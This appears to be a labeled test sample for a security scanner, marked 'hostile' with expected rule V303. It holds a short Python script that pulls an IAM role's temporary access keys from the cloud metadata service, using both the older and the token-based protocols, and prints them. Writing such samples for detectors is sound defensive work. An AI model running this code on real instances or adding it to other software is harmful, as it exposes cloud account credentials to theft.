# label: hostile
# expect: V303
# note: Asks the cloud's metadata service for the role's temporary keys, by the older and the newer protocol.
# allow: V301
import json
import urllib.request as r

BASE = "http://169.254.169.254/latest"

def get(path, **headers):
    return r.urlopen(r.Request(BASE + path, headers=headers), timeout=1).read().decode()

try:
    put = r.Request(BASE + "/api/token", method="PUT", headers={"X-aws-ec2-metadata-token-ttl-seconds": "21600"})
    token = r.urlopen(put, timeout=1).read().decode()
    h = {"X-aws-ec2-metadata-token": token}
except OSError:
    h = {}
role = get("/meta-data/iam/security-credentials/", **h)
creds = json.loads(get("/meta-data/iam/security-credentials/" + role, **h))
print(creds["AccessKeyId"], creds["SecretAccessKey"])
